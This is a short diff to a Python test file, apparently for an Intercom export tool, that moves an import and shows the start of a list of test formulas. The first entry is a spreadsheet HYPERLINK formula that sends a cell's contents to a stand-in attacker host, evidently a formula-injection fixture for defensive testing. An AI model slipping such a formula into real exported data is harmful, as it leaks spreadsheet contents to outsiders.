@@ -12,8 +12,8 @@ from typing import Any, Final
 import pytest
 from backports import zstd
 
-from intercom_async.export.convert import convert
 from intercom_async.export.store import Identity, Store
+from intercom_async.export.tables import convert
 
 FORMULAS: Final = [
     '=HYPERLINK("http://evil.example?"&A1,"x")',
